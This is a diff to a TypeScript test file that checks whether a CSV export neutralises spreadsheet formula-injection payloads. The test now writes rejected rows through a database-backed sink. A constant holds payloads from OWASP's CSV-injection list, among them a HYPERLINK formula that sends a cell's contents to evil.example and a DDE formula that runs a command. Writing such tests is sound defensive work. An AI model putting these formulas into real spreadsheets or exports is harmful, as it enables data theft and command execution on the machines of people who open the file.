@@ -13,7 +13,8 @@ import { terminalText } from '../src/core/terminal.js';
 import { evidenceCsv } from '../src/cli/commands/diagnose.js';
 import { renderTable, terminalContext, type CliContext } from '../src/cli/output.js';
 import type { DiagnosedCandidate } from '../src/diagnose/candidate.js';
-import { writeRejectsCsv } from '../src/io/ingest.js';
+import { RejectSink, writeRejectsCsv } from '../src/io/reject-sink.js';
+import { openMemory } from '../src/store/workspace.js';
 
 /** Payloads of the OWASP CSV-injection page, one per dangerous first character. */
 export const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
@@ -51,11 +52,17 @@ describe('csvCell: the one CSV cell writer', () => {
     expect(csvLine(['x', -1, null, '=1'])).toBe("x,-1,,'=1");
   });
 
-  it('rejects.csv neutralises payloads in every text column and keeps the line number numeric', () => {
+  it('rejects.csv neutralises payloads in every text column and keeps the line number numeric', async () => {
     const dir = mkdtempSync(join(tmpdir(), 'atlas-safety-csv-'));
     dirs.push(dir);
     const file = join(dir, 'rejects.csv');
-    writeRejectsCsv(file, FORMULAS.map((p, i) => ({ file: p, line: i + 2, field: 'name', value: p, reason: 'bad_value', detail: p })));
+    const ws = await openMemory();
+    await ws.run('CREATE TABLE rejects (file VARCHAR, line INTEGER, field VARCHAR, value VARCHAR, reason VARCHAR, detail VARCHAR)');
+    const sink = new RejectSink(ws);
+    await sink.addAll(FORMULAS.map((p, i) => ({ file: p, line: i + 2, field: 'name', value: p, reason: 'bad_value', detail: p })));
+    await sink.flush();
+    await writeRejectsCsv(ws, file);
+    ws.close();
     const text = readFileSync(file, 'utf8');
     expect(text.startsWith('\uFEFFfile,line,field,value,reason,detail\n')).toBe(true);
     const rows = parseCsvRecords(text).slice(1);
